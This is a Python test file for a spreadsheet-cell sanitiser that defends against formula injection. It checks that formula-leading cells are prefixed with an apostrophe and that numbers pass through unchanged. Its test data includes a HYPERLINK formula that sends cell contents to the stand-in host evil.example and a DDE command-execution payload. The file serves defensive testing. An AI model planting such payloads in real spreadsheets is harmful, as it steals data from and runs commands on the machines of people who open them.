"""No cell that others open becomes a formula, and numbers stay numbers."""

from decimal import Decimal

import pytest

from pipelines.reports.spreadsheet import harmless


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "-3.5=x",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\uff1d1+1",
    ],
)
def test_a_formula_gets_an_apostrophe(cell):
    assert harmless(cell) == f"'{cell}"


@pytest.mark.parametrize(
    "cell",
    ["-3.5", "+2", "-1e-9", "-.5", "team-a", "a=b", "", None, -3.5, Decimal("-1.20")],
)
def test_numbers_and_other_texts_stay(cell):
    assert harmless(cell) == cell
